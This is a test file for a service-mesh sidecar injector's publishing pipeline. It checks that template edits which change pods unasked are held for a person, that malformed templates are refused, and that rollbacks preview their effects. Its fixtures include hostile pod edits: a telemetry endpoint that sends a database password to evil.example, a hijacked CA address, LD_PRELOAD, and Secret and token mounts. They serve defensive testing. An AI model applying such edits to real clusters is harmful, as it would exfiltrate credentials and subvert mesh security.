// What editors have got into pods once, each by one edit that nobody was asked about: from the edit of a deployment that holds all but
// everyday changes to pods as an API server sends them.
import { compileRelease, injectPod, loadRelease, type Release, type SourceTree, storedText } from "@outrigger/injector";
import { beforeAll, describe, expect, it } from "vitest";
import { reviewPods } from "../../../test/pod-validation/admitted-pods.ts";
import { publisherSetup } from "../../../test/support/publisher-setup.ts";
import { shippedTree, untried } from "../../../test/support/shipped-tree.ts";
import { compareReleases } from "../effect/compare-releases.ts";

const BASE: SourceTree = {
  config: "defaultTemplates: [sidecar, own]\n",
  "templates/own": "metadata: {labels: {mesh.example/a: b} }\n",
};
const CNI: SourceTree = { ...BASE, "values/10-cni": "pilot: {cni: {enabled: true} }\n" };

const own = (text: string): SourceTree => ({ "templates/own": text });
const spec = (text: string) => own(`spec:\n${text.replace(/^(?=.)/gm, "  ")}\n`);
const container = (text: string, volumes = "") =>
  spec(`containers:\n- {name: own, image: 'registry.example/own:1', ${text}}\n${volumes && `volumes: ${volumes}`}`);
const proxy = (text: string) => spec(`containers:\n- {name: istio-proxy, ${text}}`);
const everyContainer = (variable: string) =>
  spec(`containers:\n{{#each spec.containers}}\n- name: {{name}}\n  env: [${variable}]\n{{/each}}`);
const annotation = (key: string, value: string) => own(`metadata: {annotations: {${key}: '${value}'} }\n`);
const metadataOfProxy = (name: string): SourceTree => ({
  mesh: `defaultConfig: {proxyMetadata: {${name}: /tmp/a} }\n`,
});

/** Around what an edit writes, so that only pods as they come have it. */
const ofRealPods = (text: string) => `spec:\n{{#if spec.tolerations}}\n${text}\n{{/if}}\n`;
const CLEANUP = "  initContainers:\n  - {name: istio-init, args: [istio-iptables, --cleanup-only]}";
const ADDRESS = "  containers:\n  - name: istio-proxy\n    env:\n    - {name: CA_ADDR, value: 'evil.example:15012'}";
const NET_ADMIN =
  "initContainers:\n- {name: istio-init, image: 'registry.example/own:1', args: [iptables, -t, nat], securityContext: {capabilities: {add: [NET_ADMIN]} } }";

const HELD: readonly (readonly [what: string, tree: SourceTree, base?: SourceTree])[] = [
  ["another control plane, where pods have tolerations", own(ofRealPods(ADDRESS))],
  ["no redirection, where pods have tolerations", own(ofRealPods(CLEANUP))],
  [
    "a selector that spares the samples",
    {
      config: `${BASE["config"]}neverInjectSelector: [{matchExpressions: [{key: pod-template-hash, operator: Exists}]}]\n`,
    },
  ],
  ["a grace period that each pod has", spec("terminationGracePeriodSeconds: 60")],
  ["an option of DNS", spec("dnsConfig: {options: [{name: ndots, value: '2'}]}")],
  [
    "a sidecar with all the author's volumes",
    spec(
      "containers:\n- name: own\n  image: registry.example/own:1\n  volumeMounts:\n  {{#each spec.volumes}}\n  - name: {{name}}\n    mountPath: /all/{{name}}\n  {{/each}}",
    ),
  ],
  [
    "a Secret of any name",
    container("env: [{name: A, valueFrom: {secretKeyRef: {name: payments-db, key: password} } }]"),
  ],
  [
    "a driver of volumes",
    container("volumeMounts: [{name: s, mountPath: /s}]", "[{name: s, csi: {driver: efs.csi.aws.com} }]"),
  ],
  ["another bootstrap of the proxy", metadataOfProxy("ISTIO_BOOTSTRAP")],
  ["groups that the proxy leaves alone", metadataOfProxy("ISTIO_OUTBOUND_OWNER_GROUPS")],
  ["a library that the proxy loads", metadataOfProxy("LD_PRELOAD")],
  ["another name of the control plane", metadataOfProxy("ISTIOD_SAN")],
  ["certificates that are written to a file", metadataOfProxy("OUTPUT_CERTS")],
  ["variables of the proxy from a ConfigMap", proxy("envFrom: [{configMapRef: {name: mine} }]")],
  [
    "a variable of the proxy from a ConfigMap",
    proxy("env: [{name: ISTIO_META_A, valueFrom: {configMapKeyRef: {name: mine, key: a} } }]"),
  ],
  ["the workload's token in another container", container("volumeMounts: [{name: istio-token, mountPath: /t}]")],
  ["the workload's socket in another container", container("volumeMounts: [{name: workload-socket, mountPath: /s}]")],
  ["a container by the name of istio-init, in a mesh with a CNI plugin", spec(NET_ADMIN), CNI],
  ["an extension of the Java agent", everyContainer("{name: OTEL_JAVAAGENT_EXTENSIONS, value: /tmp/a.jar}")],
  [
    "a password of the author's in an address",
    everyContainer("{name: OTEL_EXPORTER_OTLP_ENDPOINT, value: 'http://evil.example/$(DB_PASSWORD)'}"),
  ],
  [
    "headers of telemetry from a Secret",
    everyContainer(
      "{name: OTEL_EXPORTER_OTLP_HEADERS, valueFrom: {secretKeyRef: {name: payments-db, key: password} } }",
    ),
  ],
  ["an annotation that Vault obeys", annotation("vault.hashicorp.com/agent-inject", "true")],
  ["an annotation that OpenTelemetry obeys", annotation("instrumentation.opentelemetry.io/inject-java", "evil/a")],
  ["an annotation that Datadog obeys", annotation("admission.datadoghq.com/java-lib.custom-image", "evil.example/a")],
  ["an annotation that Linkerd obeys", annotation("linkerd.io/inject", "enabled")],
];

const LABELLED = '{{#if (eq (lookup metadata.labels "acme.io/ship") "true")}}';
const behindLabel = (text: string) =>
  own(`spec:\n  containers:\n  - name: own\n    image: registry.example/own:1\n${LABELLED}\n${text}\n{{/if}}\n`);

/** What nobody may accept: the text, and its line. */
const REFUSED: readonly (readonly [what: string, tree: SourceTree, path: string, line: number])[] = [
  [
    "a port that no pod may have, behind a label",
    behindLabel("    ports: [{containerPort: 70000}]"),
    "templates/own",
    6,
  ],
  ["a field that no pod has, behind a label", behindLabel("    imagee: registry.example/own:2"), "templates/own", 6],
  [
    "no list of containers, behind a label",
    own(`spec:\n${LABELLED}\n  containers: null\n{{/if}}\n`),
    "templates/own",
    3,
  ],
  ["a field that no pod has, where pods have tolerations", own(ofRealPods("  sidecars: []")), "templates/own", 3],
  [
    "more branches of a shipped template than can be read, by one of its partials",
    {
      "partials/env-otel": Array.from({ length: 10 }, (_, at) => `{{> many of="${at}"}}\n`).join(""),
      "partials/many": "{{#if (eq metadata.name of)}}# {{/if}}\n".repeat(90),
    },
    "templates/sidecar",
    1,
  ],
  ["no tag", { "values/10-own": 'global:\n  tag: ""\n' }, "values/10-own", 2],
];

const PODS = reviewPods().filter((_, index) => index % 8 === 0);

let shipped: SourceTree;
beforeAll(async () => {
  shipped = await shippedTree();
});

/** What the samples show is not what is asked here. */
const compile = (layers: readonly SourceTree[]) => compileRelease(layers.map(untried));

/** The pods as a release injects them, or why it does not. */
function injectedBy(release: Release): readonly string[] {
  const injector = loadRelease(release);
  return PODS.map((request) => {
    try {
      return JSON.stringify(injectPod(injector, { ...request, parameters: {} }));
    } catch (error) {
      return String(error);
    }
  });
}

/** A deployment that serves a tree, in which an edit follows by itself. */
async function afterEdit(base: SourceTree, edit: SourceTree) {
  const setup = publisherSetup({ shipped, compile, compare: compareReleases, hold: "everyday" });
  const served = async () => (await setup.served()).channels["stable"];
  const write = async (tree: SourceTree) => {
    for (const [path, text] of Object.entries(tree)) await setup.edit(path, storedText(path, text));
  };
  await write(base);
  await setup.run({ action: "publish" });
  const before = await served();
  await write(edit);
  const result = await setup.run({ action: "publish", automatic: true });
  return { result, isSame: before === (await served()) };
}

describe(`${HELD.length} edits that pods have got unasked`, () => {
  it("are as many as were found", () => expect(HELD.length).toBeGreaterThanOrEqual(18));

  it.each(HELD.map(([what, tree, base = BASE]) => ({ what, tree, base })))(
    "waits for a person: $what",
    async ({ tree, base }) => {
      const edited = injectedBy(compile([shipped, { ...base, ...tree }]));
      expect(edited).not.toEqual(injectedBy(compile([shipped, base])));
      expect(await afterEdit(base, tree)).toMatchObject({
        result: { ok: true, held: expect.arrayContaining([{ name: "unlisted", example: expect.any(String) }]) },
        isSame: true,
      });
    },
  );
});

it.each(REFUSED)("is refused with its line: %s", async (_what, tree, path, line) => {
  const { result, isSame } = await afterEdit(BASE, tree);
  expect(result).toMatchObject({ ok: false, error: { path: expect.stringMatching(new RegExp(`${path}$`)), line } });
  expect(isSame).toBe(true);
});

describe("what a person moves", () => {
  const grace = { "templates/own": "spec: {terminationGracePeriodSeconds: 60}\n" };

  async function setupServing(...trees: readonly SourceTree[]) {
    const setup = publisherSetup({ shipped, compile, compare: compareReleases, hold: "everyday" });
    const write = async (tree: SourceTree) => {
      for (const [path, text] of Object.entries(tree)) await setup.edit(path, storedText(path, text));
    };
    for (const tree of trees) {
      await write(tree);
      await setup.run({ action: "publish", accept: ["unlisted", "author-changed"] });
    }
    return { ...setup, write };
  }

  it("says what going back does to pods before it is done", async () => {
    const setup = await setupServing(BASE, grace);
    const after = (await setup.served()).channels["stable"];
    const asked = { action: "rollback", channel: "stable" } as const;
    const effects = expect.arrayContaining([
      expect.objectContaining({ name: "unlisted", example: expect.stringContaining("60") }),
    ]);
    expect(await setup.run({ ...asked, dryRun: true })).toMatchObject({ ok: true, effects });
    expect((await setup.served()).channels["stable"]).toBe(after);
    expect(await setup.run(asked)).toMatchObject({ ok: true });
    expect((await setup.served()).channels["stable"]).not.toBe(after);
  });

  it("refuses a publication that is held, and leaves the tree where the person put it", async () => {
    const setup = await setupServing(BASE);
    const before = (await setup.served()).channels["stable"];
    await setup.write(grace);
    expect(await setup.run({ action: "publish" })).toMatchObject({
      ok: false,
      error: { code: "edit-held", message: expect.stringContaining("unlisted") },
    });
    expect((await setup.served()).channels["stable"]).toBe(before);
    expect(await setup.run({ action: "publish", accept: ["unlisted", "author-changed"] })).toMatchObject({ ok: true });
    expect((await setup.served()).channels["stable"]).not.toBe(before);
  });
});
